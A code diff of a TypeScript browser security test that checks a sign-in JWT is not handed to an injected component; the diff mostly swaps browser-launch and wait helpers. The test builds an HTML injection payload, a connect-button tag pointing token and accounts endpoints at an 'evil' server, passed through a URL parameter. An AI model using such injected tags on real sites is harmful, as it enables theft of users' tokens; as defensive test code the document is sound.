@@ -3,14 +3,13 @@ import { once } from 'node:events';
 import { createServer, type IncomingMessage } from 'node:http';
 import type { AddressInfo } from 'node:net';
 import { it } from 'node:test';
-import { chromium } from 'playwright-core';
-import { CHROMIUM_ARGS, findBrowser } from '../../../scripts/lib/browsers.mjs';
 import type { Sandbox } from '../../../src/sandbox/index.js';
-import { eventually } from '../../runner/eventually.js';
+import { waitFor } from '../../support/wait-for.js';
 import type { startLogin } from '../login.js';
 import { atEnd } from './at-end.js';
 import { htmlWith, type Place } from './browser.js';
 import { forSandbox } from './pages.js';
+import { openChromium } from '../../support/chromium.js';
 
 type Login = Awaited<ReturnType<typeof startLogin>>;
 
@@ -57,9 +56,7 @@ export function itKeepsTheJwt(place: () => Place): void {
       received.push(`${request.method} ${request.url}`);
       response.end('{"accounts":[]}');
     });
-    const executablePath = findBrowser('chromium');
-    assert.ok(executablePath);
-    const browser = await chromium.launch({ executablePath, args: CHROMIUM_ARGS });
+    const browser = await openChromium();
     try {
       const context = await browser.newContext();
       await place().signIn(context, 'ada');
@@ -67,7 +64,7 @@ export function itKeepsTheJwt(place: () => Place): void {
       const tag = `<pd-connect-button id="injected" app="slack" token-endpoint="${evil}/token" accounts-endpoint="${evil}/accounts" credentials="omit"></pd-connect-button>`;
       await page.goto(`${place().page}/?injected=${encodeURIComponent(tag)}`);
       const injected = page.locator('#injected');
-      await eventually(
+      await waitFor(
         async () =>
           (await injected.evaluate(
             (button) => button.matches(':defined') && 'fetch' in button && Boolean(button.fetch),
@@ -75,7 +72,7 @@ export function itKeepsTheJwt(place: () => Place): void {
         'button with the fetch of the recipe',
       );
       await injected.click();
-      await eventually(
+      await waitFor(
         () =>
           injected.evaluate(
             (button) => (button as unknown as { error: { code: string } | null }).error?.code ?? null,
